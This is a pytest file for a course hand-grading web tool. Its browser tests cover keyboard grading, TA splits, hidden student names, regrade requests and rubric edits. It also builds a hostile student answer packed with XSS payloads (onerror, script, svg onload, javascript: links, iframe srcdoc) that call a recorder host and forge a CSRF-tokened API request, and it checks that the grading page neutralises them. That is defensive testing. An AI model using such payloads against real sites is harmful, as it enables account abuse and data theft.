"""Hand grading a4's Q1 in headless Chromium on the real page, by keyboard, as a grader would.

30 students (written directly, not autograded: ``tests/autograder/handgrade/handgrade_class.py``): a group
of equal answers, empty ones, answers of their own and, in the middle, a hostile one whose
markdown carries scripts. Each test starts ``python -m autograder handgrade`` on its own copy
of the class and asks:

- three rubric items applied by keyboard to every answer, then one item's points edited: does
  every affected score change in the gradebook and the export, and nothing else?
- two TAs: does each see a disjoint half, and the instructor their progress?
- are the names hidden until ``--reveal-names``?
- is a regrade request opened by the command listed, and its resolution recorded?
- does the hostile answer run anything (a flag, a request to a recorder, a rubric item)?
"""

from __future__ import annotations

import csv
import shutil
import time
from pathlib import Path

import pytest

from autograder.handgrade import server
from autograder.handgrade.records import Why
from autograder.handgrade.store import Store
from tests.autograder.handgrade import handgrade_class as hc
from tests.autograder.recorder import Recorder

A = hc.A
CHROMIUM = Path("/usr/bin/chromium")
COURSE_OWNER = 4242
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium")
SAME = "Decay lowers the learning rate during training."
HOSTILE = "kim.mallory"
WHY = 'I also said why. <img src=x onerror="window.__pwned=1">'  #: a student's words


def payload(name: str, base: str) -> str:
    """What a payload would do: flag the page, call home, add a rubric item through the API."""
    return (
        f"window.__pwned=(window.__pwned||[]).concat('{name}');fetch('{base}/{name}');"
        "fetch('/api/item',{method:'POST',headers:{'Content-Type':'application/json',"
        "'X-CSRF-Token':document.querySelector('meta[name=csrf]').content},"
        "body:JSON.stringify({question:'q1',description:'pwned',points:2})})"
    )


def hostile_answer(base: str) -> str:
    q = lambda name: payload(name, base).replace('"', "&quot;")  # noqa: E731 (in attributes)
    return (
        "Decay shrinks the steps.\n\n"
        f'<img src=x onerror="{q("img-onerror")}">\n\n'
        f"<script>{payload('script-tag', base)}</script>\n\n"
        f'<svg onload="{q("svg-onload")}"><circle r="4"/></svg>\n\n'
        f'<a href="javascript:{q("javascript-link")}">click</a> '
        f"[more](javascript:{payload('markdown-link', base)})\n\n"
        f'<iframe srcdoc="<script>{q("iframe-srcdoc")}</script>"></iframe>\n\n'
        f"<style>body{{background:url({base}/style-url)}}</style>"
    )


@pytest.fixture(scope="module")
def recorder():
    r = Recorder()
    yield r
    r.server.shutdown()


@pytest.fixture(scope="module")
def template(tmp_path_factory, recorder):
    """a4 with 30 students' Q1: 8 equal answers (up to case and spaces), 4 empty, 17 of their
    own and the hostile one in the middle."""
    course = hc.released(tmp_path_factory.mktemp("handgrade-browser") / "course")
    answers = {}
    for i in range(30):
        student = f"kim.lee{i:02d}"
        if i < 8:
            text = SAME if i % 2 else "  " + SAME.upper() + "\n"
        elif i < 12:
            text = ""
        else:
            text = f"Answer {i}: the rate goes down as the epochs go by."
        answers[student] = {"q1": text}
        if i == 15:
            answers[HOSTILE] = {"q1": hostile_answer(recorder.base)}
    del answers["kim.lee29"]  # 29 honest students and the hostile one: 30
    hc.add_students(course, answers)
    return course


@pytest.fixture
def course(template):
    copy = hc.served_copy(template, COURSE_OWNER)
    yield copy
    shutil.rmtree(copy.parent)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield browser
        browser.close()


def open_page(browser, handle):
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.goto(handle.url)
    page.wait_for_selector(".card")
    return page


def wait_actions(page, count: int, timeout: float = 60.0) -> None:
    """Until the page has finished ``count`` actions (``window.__timings`` grows per action)."""
    deadline = time.monotonic() + timeout
    while page.evaluate("window.__timings.filter(t => t.action !== 'move').length") < count:
        assert time.monotonic() < deadline, page.inner_text("#status")
        page.wait_for_timeout(50)


def add_item(page, description: str, points: float, done: int) -> None:
    page.fill("#new-description", description)
    page.fill("#new-points", str(points))
    page.click("#add-item button")
    wait_actions(page, done)


def q1_scores(course) -> dict[str, float | None]:
    from nbgrader.api import Gradebook

    from autograder.config import COURSE_ID, default_db_url

    with Gradebook(default_db_url(course), course_id=COURSE_ID) as gb:
        return {
            s.student.id: next(g.manual_score for g in s.notebooks[0].grades if g.name == "q1")
            for s in gb.find_assignment(A).submissions
        }


def pseudonyms(course):
    from autograder.handgrade.pseudonyms import Pseudonyms, pseudonym_key

    return Pseudonyms(pseudonym_key(course), A, q1_scores(course))


def test_q1_graded_by_keyboard_then_an_items_points_edited_everywhere(browser, course, tmp_path):
    from autograder.term import export

    handle = server.start(A, course=course)
    try:
        page = open_page(browser, handle)
        add_item(page, "Full answer: what decay does and why", 2, 1)
        add_item(page, "Says what decay does, not why", 1, 2)
        add_item(page, "No answer", 0, 3)
        cards = page.query_selector_all(".card")
        empty = [c.query_selector(".answer.empty") is not None for c in cards]
        chosen = {}  # card index -> the key pressed
        for i, is_empty in enumerate(empty):
            chosen[i] = "3" if is_empty else ("1" if i % 2 == 0 else "2")
            page.keyboard.press(chosen[i])
            wait_actions(page, 4 + i)
            page.keyboard.press("j")
        members = [[s.get_attribute("data-answer") for s in c.query_selector_all("[data-answer]")]
                   for c in page.query_selector_all(".card")]  # fmt: skip
        assert sum(map(len, members)) == 30 and len(members[0]) == 8  # the group: one decision
        names = pseudonyms(course)
        want = {names.student[m]: {"1": 2.0, "2": 1.0, "3": 0.0}[chosen[i]]
                for i, group in enumerate(members) for m in group}  # fmt: skip
        assert q1_scores(course) == want
        page.keyboard.press("c")  # a comment on the answer under the cursor, by keyboard
        page.keyboard.type("Say why the steps must shrink.")
        page.keyboard.press("Enter")
        wait_actions(page, 4 + len(members))
        commented = page.locator(".card.current [data-answer]").first.get_attribute("data-answer")

        first = page.locator('#items li[data-item="i1"] input')
        first.fill("1.5")
        first.press("Enter")
        wait_actions(page, 5 + len(members))
        with_item1 = {s for s, v in want.items() if v == 2.0}
        want = {s: (1.5 if s in with_item1 else v) for s, v in want.items()}
        assert q1_scores(course) == want  # every affected score, and no other
        shown = page.inner_text(f'[data-answer="{names[sorted(with_item1)[0]]}"]')
        assert shown.endswith(": 1.5")
        assert not page.evaluate("window.__timings.some(t => t.ms > 10000)")
        page.close()
    finally:
        handle.stop()
    out = export.main(assignment=A, format="csv", out=tmp_path / "grades.csv", course=course)
    with out.path.open() as f:
        exported = {row["student_id"]: float(row["q1"]) for row in csv.DictReader(f)}
    assert exported == want
    from nbgrader.api import Gradebook

    from autograder.config import COURSE_ID, default_db_url

    with Gradebook(default_db_url(course), course_id=COURSE_ID) as gb:
        comment = gb.find_comment("q1", A, A, names.student[commented]).manual_comment
    assert comment == "Say why the steps must shrink."
    audit = Store(course, A).audit()
    applied = [e for e in audit if e.why is Why.ITEM_APPLIED]
    edited = [e for e in audit if e.why is Why.ITEM_POINTS]
    assert sorted(e.student for e in applied) == sorted(want)  # one entry per change
    assert {(e.student, e.old, e.new) for e in edited} == {(s, 2.0, 1.5) for s in with_item1}


def test_two_tas_split_q1_and_the_instructor_sees_their_progress(browser, course):
    shares = {}
    for grader, grade in (("ana", 15), ("ben", 5)):
        graders = ("ana", "ben") if grader == "ana" else None  # the team, named once
        handle = server.start(A, course=course, grader=grader, graders=graders)
        try:
            page = open_page(browser, handle)
            assert page.inner_text("#title").endswith(f"— {grader}")
            if grader == "ana":
                add_item(page, "Full answer", 2, 1)
            shares[grader] = {s.get_attribute("data-answer")
                              for s in page.query_selector_all("[data-answer]")}  # fmt: skip
            done = 1 if grader == "ana" else 0
            graded = 0
            for _ in range(40):  # grade answers, one group at a time, by keyboard
                if graded == grade:
                    break
                size = len(page.query_selector_all(".card.current [data-answer]"))
                if graded + size > grade:
                    page.keyboard.press("j")
                    continue
                page.keyboard.press("1")
                done += 1
                wait_actions(page, done)
                graded += size
                page.keyboard.press("j")
            page.close()
        finally:
            handle.stop()
    assert len(shares["ana"]) == len(shares["ben"]) == 15 and not shares["ana"] & shares["ben"]
    handle = server.start(A, course=course)
    try:
        page = open_page(browser, handle)
        rows = [r.inner_text().split("\t") for r in page.query_selector_all("#progress tr")]
        assert ["q1", "ana", "15 / 15"] in rows and ["q1", "ben", "5 / 15"] in rows
        assert ["q2", "ana", "0 / 15"] in rows
        page.close()
    finally:
        handle.stop()
    assert sum(v is not None for v in q1_scores(course).values()) == 20


def test_names_are_hidden_until_revealed(browser, course):
    import urllib.request

    ids = list(q1_scores(course))
    for reveal in (False, True):
        handle = server.start(A, course=course, reveal_names=reveal)
        try:
            page = open_page(browser, handle)
            text = page.inner_text("body")
            cookie = page.context.cookies()[0]
            request = urllib.request.Request(
                f"{handle.base}/api/view?question=q1",
                headers={"Cookie": f"{cookie['name']}={cookie['value']}"},
            )
            with urllib.request.urlopen(request, timeout=30) as response:
                body = response.read().decode()
            page.close()
        finally:
            handle.stop()
        seen = [s for s in ids if s in text or s in body]
        assert seen == (ids if reveal else []), (reveal, seen[:3])
        assert (pseudonyms(course)[ids[0]] in text) is not reveal  # a name, or its pseudonym


def test_a_regrade_request_is_listed_and_its_resolution_recorded(browser, course):
    import subprocess
    import sys

    handle = server.start(A, course=course)
    student = "kim.lee20"
    try:
        page = open_page(browser, handle)
        add_item(page, "Says what decay does, not why", 1, 1)
        add_item(page, "Full answer", 2, 2)
        me = pseudonyms(course)[student]
        index = int(page.locator(f'[data-answer="{me}"]').locator("xpath=ancestor::article")
                    .get_attribute("data-index"))  # fmt: skip
        for _ in range(index):
            page.keyboard.press("j")
        page.keyboard.press("1")
        wait_actions(page, 3)
        done = subprocess.run(
            [sys.executable, "-m", "autograder", "regrade-request", A, "--course", str(course),
             "--student", student, "--question", "q1", "--why", WHY],
            capture_output=True, text=True,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        page.reload()
        page.wait_for_selector("#requests li")
        listed = page.inner_text("#requests")
        assert WHY in listed and me in listed  # the student's words, shown as text
        assert page.evaluate("window.__pwned") is None
        assert student not in page.inner_text("body")
        page.locator("#requests button", has_text="show").click()  # to the answer
        page.keyboard.press("1")  # remove "says what", apply "full"
        wait_actions(page, 1)
        page.keyboard.press("2")
        wait_actions(page, 2)
        page.locator("#requests input").fill("You did say why: full marks.")
        page.locator("#requests button", has_text="resolve").click()
        page.wait_for_selector("#requests li:has-text('resolved')")
        page.click("#history summary")  # the audit trail, newest first
        page.wait_for_selector("#audit li")
        trail = [li.inner_text() for li in page.query_selector_all("#audit li")]
        assert "regrade request resolved" in trail[0] and student not in " ".join(trail)
        assert len(trail) == 4  # applied, removed, applied, resolved
        page.close()
    finally:
        handle.stop()
    [request] = Store(course, A).read().requests.values()
    assert (request.status, request.score_then, request.score_after) == ("resolved", 1.0, 2.0)
    assert request.note == "You did say why: full marks." and request.resolved_by == "instructor"
    [entry] = [e for e in Store(course, A).audit() if e.why is Why.REGRADE]
    assert (entry.student, entry.old, entry.new, entry.who) == (student, 1.0, 2.0, "instructor")
    assert q1_scores(course)[student] == 2.0


def test_the_hostile_answer_runs_in_a_page_without_the_protections(browser):
    """The positive control: rendered as plain markdown in a page with no sanitiser and no
    policy, the payloads do run (so their silence on the grading page means something)."""
    from nbconvert.filters.markdown import markdown2html_mistune

    own = Recorder()  # not the module's: its requests never mix with the real test's
    try:
        page = browser.new_page()
        page.set_content(markdown2html_mistune(hostile_answer(own.base)))
        page.wait_for_timeout(1000)
        assert "img-onerror" in (page.evaluate("window.__pwned") or [])
        page.close()
        assert any("img-onerror" in hit for hit in own.hits)
    finally:
        own.server.shutdown()


def test_a_hostile_answer_runs_nothing_between_honest_ones(browser, course, recorder):
    handle = server.start(A, course=course)
    try:
        page = open_page(browser, handle)
        errors = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        response = page.goto(handle.base + "/")
        policy = response.headers["content-security-policy"]
        assert "script-src 'self';" in policy and "connect-src 'self'" in policy
        page.wait_for_selector(".card")
        for _ in range(len(page.query_selector_all(".card"))):  # every answer shown, in turn
            page.keyboard.press("j")
        for link in page.query_selector_all(".answer a"):
            link.click()
        page.wait_for_timeout(1500)
        assert page.evaluate("window.__pwned") is None
        text = page.inner_text("#answers")
        assert "<script>" in text and "Decay shrinks the steps." in text  # shown, as text
        assert "Answer 14:" in text and "Answer 16:" in text  # its honest neighbours
        assert page.query_selector("#answers script, #answers iframe, #answers svg") is None
        assert page.query_selector("#answers [onerror], #answers [onload]") is None
        page.close()
    finally:
        handle.stop()
    assert recorder.hits == []
    assert not Store(course, A).read().items  # no item was added by a payload
    assert errors == []


def test_the_instructor_deletes_an_item_and_marks_and_a_ta_page_offers_neither(browser, course):
    """Deleting an applied item (two clicks) re-scores every answer it was on; ``x`` deletes
    an answer's marks; a TA's address shows no control the TA may not use."""
    from autograder.handgrade.session import name_graders

    name_graders(course, A, ["ana", "ben"])
    handle = server.start(A, course=course)
    try:
        page = open_page(browser, handle)
        assert page.is_visible("#reveal") and page.locator("#items input").count() == 0
        add_item(page, "Full answer", 2, 1)
        add_item(page, "What, not why", -1, 2)
        page.keyboard.press("1")  # the first group: 8 equal answers
        wait_actions(page, 3)
        page.keyboard.press("2")
        wait_actions(page, 4)
        page.keyboard.press("j")
        page.keyboard.press("j")  # an answer of its own
        page.keyboard.press("1")
        wait_actions(page, 5)
        graded = {s: v for s, v in q1_scores(course).items() if v is not None}
        assert sorted(graded.values()) == [1.0] * 8 + [2.0]
        remove = page.locator('#items li[data-item="i2"] button.delete')
        remove.click()
        assert "re-scoring 8 answer(s)?" in remove.inner_text()  # armed, nothing sent yet
        assert {s: v for s, v in q1_scores(course).items() if v is not None} == graded
        remove.click()
        wait_actions(page, 6)
        assert page.locator('#items li[data-item="i2"]').count() == 0
        assert {s: v for s, v in q1_scores(course).items() if v is not None} == dict.fromkeys(
            graded, 2.0
        )
        page.keyboard.press("x")  # the current card: the answer of its own
        wait_actions(page, 7)
        assert sum(v is not None for v in q1_scores(course).values()) == 8
        ta = browser.new_page()
        ta.goto(handle.urls["ana"])
        ta.wait_for_selector(".card")
        assert ta.inner_text("#title").endswith("— ana")
        assert ta.locator("#items input").count() == 0 and ta.locator("button.delete").count() == 0
        assert not ta.is_visible("#reveal") and ta.locator("select.reassign").count() == 0
        assert len(ta.query_selector_all("[data-answer]")) == 15
        ta.close()
        page.close()
    finally:
        handle.stop()
    whys = [e.why for e in Store(course, A).audit()]
    assert whys.count(Why.ITEM_DELETED) == 8 and whys.count(Why.CLEARED) == 1
